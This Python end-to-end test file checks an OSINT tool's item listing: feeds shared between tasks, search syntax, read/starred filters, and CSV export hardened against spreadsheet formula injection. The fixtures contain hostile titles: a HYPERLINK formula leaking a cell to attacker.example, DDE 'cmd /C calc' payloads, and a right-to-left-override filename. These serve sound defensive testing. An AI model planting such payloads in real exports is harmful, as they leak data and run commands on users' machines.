"""`items` as a user runs it: a feed shared by two tasks, and CSV that a spreadsheet cannot run."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

from osint_desktop.app.tasks import delete_task
from osint_desktop.core.db.engine import Database
from osint_desktop.core.db.models import Item
from osint_desktop.core.db.reading import mark_read, set_starred
from osint_desktop.core.timeutil import utcnow
from tests.conftest import REPO
from tests.e2e.conftest import CLI_TIMEOUT_S, Cli, cli_env, command
from tests.feedserver import FeedServer
from tests.helpers import WORLD, WORLD_ENTRIES, db_file, query_db

# Titles a feed's owner may choose: formulas (OWASP's triggers) and a right-to-left override.
FEED_TITLES = [
    '=HYPERLINK("http://attacker.example/?leak="&amp;A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]
RTL_TITLE = "report&#x202E;txt.exe"
# Feed parsers strip leading whitespace: these two reach the database another way (an import).
STORED_TITLES = ["\t=1+1", "\r=2+2"]


def add_news_task(cli: Cli, name: str, url: str) -> int:
    result = cli("add-task", "--name", name, "--source", "news", "--frequency", "hourly", "--target", url)
    assert result.code == 0, result.stderr
    task_id = result.json["task_id"]
    assert isinstance(task_id, int)
    return task_id


def database(home: Path) -> Database:
    return Database("sqlite:///" + str(db_file(home)))


def test_a_feed_in_two_tasks_lists_in_both(cli: Cli, cli_home: Path, server: FeedServer) -> None:
    server.add_file("/feeds/1.xml", WORLD)
    url = server.url("/feeds/1.xml")
    first = add_news_task(cli, "Case A", url)
    assert cli("run-task", str(first)).json["items_new"] == WORLD_ENTRIES
    second = add_news_task(cli, "Case B", url)

    ran = cli("run-task", str(second))

    assert ran.code == 0
    data = ran.json
    assert (data["items_found"], data["items_new"]) == (WORLD_ENTRIES, WORLD_ENTRIES)
    [detail] = data["details"]
    assert (detail["status"], detail["new"]) == ("200", WORLD_ENTRIES)  # a full fetch, not A's 304
    requests = [r for r in server.requests if r.path == "/feeds/1.xml"]
    assert [r.headers.get("if-none-match") for r in requests] == [None, None]
    [logged] = cli("logs", "--task", str(second)).json["logs"]
    assert logged["items_new"] == WORLD_ENTRIES

    listed = cli("items", "--task", str(second), "--limit", "100").json["items"]
    assert len(listed) == WORLD_ENTRIES
    assert {row["task_id"] for row in listed} == {second}
    assert {row["origin"] for row in listed} == {url}
    in_first = cli("items", "--task", str(first), "--limit", "100").json["items"]
    assert {row["id"] for row in in_first} == {row["id"] for row in listed}
    assert query_db(cli_home, "SELECT count(*) FROM items") == [(WORLD_ENTRIES,)]  # stored once

    # B's own validators: its next run is conditional, answered 304, and adds nothing.
    again = cli("run-task", str(second)).json
    assert (again["details"][0]["status"], again["items_new"]) == ("304 not modified", 0)

    db = database(cli_home)
    try:
        delete_task(db, first)  # as the window deletes a task
    finally:
        db.dispose()
    assert len(cli("items", "--task", str(second), "--limit", "100").json["items"]) == WORLD_ENTRIES
    assert cli("items", "--task", str(first)).code == 1


def _hostile_feed() -> bytes:
    titles = [*FEED_TITLES, RTL_TITLE]
    entries = "".join(
        f"<item><title>{title}</title><link>https://attacker.example/{n}</link><guid>h{n}</guid>"
        f"<description>-1 is a number in a text cell</description></item>"
        for n, title in enumerate(titles)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Hostile</title>'
        f"<link>https://attacker.example/</link>{entries}</channel></rss>"
    ).encode()


def test_csv_output_cannot_run_in_a_spreadsheet(cli: Cli, cli_home: Path, server: FeedServer) -> None:
    server.add_bytes("/hostile.xml", _hostile_feed())
    task_id = add_news_task(cli, "Hostile", server.url("/hostile.xml"))
    assert cli("run-task", str(task_id)).code == 0
    db = database(cli_home)
    try:
        with db.write() as session:
            for n, title in enumerate(STORED_TITLES):
                session.add(Item(task_id=task_id, source="news", dedup_key=f"stored-{n}", title=title,
                                 summary="", collected_at=utcnow(), origin="https://import.example/"))
    finally:
        db.dispose()

    # Bytes, not text: universal newlines would turn the carriage return of a cell into "\n".
    completed = subprocess.run(
        command("items", "--task", str(task_id), "--format", "csv"),
        cwd=REPO, env=cli_env(cli_home), capture_output=True, timeout=CLI_TIMEOUT_S, check=False,
    )
    assert completed.returncode == 0, completed.stderr
    rows = list(csv.DictReader(io.StringIO(completed.stdout.decode("utf-8"), newline="")))

    expected = ['=HYPERLINK("http://attacker.example/?leak="&A1,"x")', *FEED_TITLES[1:], *STORED_TITLES]
    titles = [row["title"] for row in rows]
    assert sorted(titles) == sorted(["'" + title for title in expected] + ["report\u202etxt.exe"])
    for row in rows:
        assert row["id"].isdigit() and row["task_id"] == str(task_id)  # numbers stay numbers
        if row["summary"]:
            assert row["summary"] == "'-1 is a number in a text cell"

    # JSON is data: every title exactly as collected, the override character included.
    listed = cli("items", "--task", str(task_id)).json["items"]
    assert sorted(row["title"] for row in listed) == sorted([*expected, "report\u202etxt.exe"])


def test_search_takes_the_query_language_and_refuses_a_malformed_one(
    cli: Cli, cli_home: Path, server: FeedServer
) -> None:
    refused = cli("items", "--search", 'cable "undersea')
    assert (refused.code, refused.stdout) == (2, "")
    assert refused.stderr == (
        "osint-desktop: error: --search: unbalanced quote: the phrase starting at character 7 "
        'has no closing "\n'
    )
    assert not db_file(cli_home).exists()  # refused before the database is opened

    server.add_file("/feeds/1.xml", WORLD)
    task_id = add_news_task(cli, "World", server.url("/feeds/1.xml"))
    assert cli("run-task", str(task_id)).json["items_new"] == WORLD_ENTRIES

    def titles(search: str) -> list[str]:
        result = cli("items", "--search", search)
        assert result.code == 0, result.stderr
        return sorted(row["title"] for row in result.json["items"])

    assert titles('"undersea cable"') == ["Undersea cable cut disrupts internet in island nation"]
    assert titles('"cable undersea"') == []
    assert titles("airline OR wildfire") == [
        "Airline suspends flights after airspace closure",
        "Wildfire forces evacuation of coastal villages",
    ]
    assert titles("(airline OR wildfire) NOT coastal") == ["Airline suspends flights after airspace closure"]
    assert titles("evacuat*") == ["Wildfire forces evacuation of coastal villages"]
    refused_later = cli("items", "--search", "NOT airline")
    assert refused_later.code == 2
    assert "--search: NOT needs something before it to exclude from" in refused_later.stderr


def test_unread_and_starred_list_what_the_window_left_unread_and_starred(
    cli: Cli, cli_home: Path, server: FeedServer
) -> None:
    server.add_file("/feeds/1.xml", WORLD)
    task_id = add_news_task(cli, "World", server.url("/feeds/1.xml"))
    assert cli("run-task", str(task_id)).json["items_new"] == WORLD_ENTRIES
    everything = cli("items", "--limit", "100").json["items"]
    assert all(row["read_at"] is None and row["starred"] is False for row in everything)
    ids = [row["id"] for row in everything]
    db = database(cli_home)
    try:  # as the window marks them
        mark_read(db, ids[:10])
        set_starred(db, [ids[0], ids[11]])
    finally:
        db.dispose()

    unread = cli("items", "--unread", "--limit", "100")
    assert unread.code == 0, unread.stderr
    assert [row["id"] for row in unread.json["items"]] == ids[10:]
    starred = cli("items", "--starred", "--task", str(task_id)).json["items"]
    assert [row["id"] for row in starred] == [ids[0], ids[11]]
    assert starred[0]["read_at"] is not None and starred[1]["read_at"] is None
    both = cli("items", "--unread", "--starred").json["items"]
    assert [row["id"] for row in both] == [ids[11]]
    title = everything[11]["title"].split()[0]
    assert [row["id"] for row in cli("items", "--unread", "--search", title).json["items"]] == [ids[11]]
    # CSV keeps the contract's columns; the state is JSON's.
    completed = subprocess.run(
        command("items", "--starred", "--format", "csv"),
        cwd=REPO, env=cli_env(cli_home), capture_output=True, timeout=CLI_TIMEOUT_S, check=False,
    )
    assert completed.returncode == 0, completed.stderr
    rows = list(csv.DictReader(io.StringIO(completed.stdout.decode("utf-8"), newline="")))
    assert [int(row["id"]) for row in rows] == [ids[0], ids[11]]
    assert "read_at" not in rows[0] and "starred" not in rows[0]
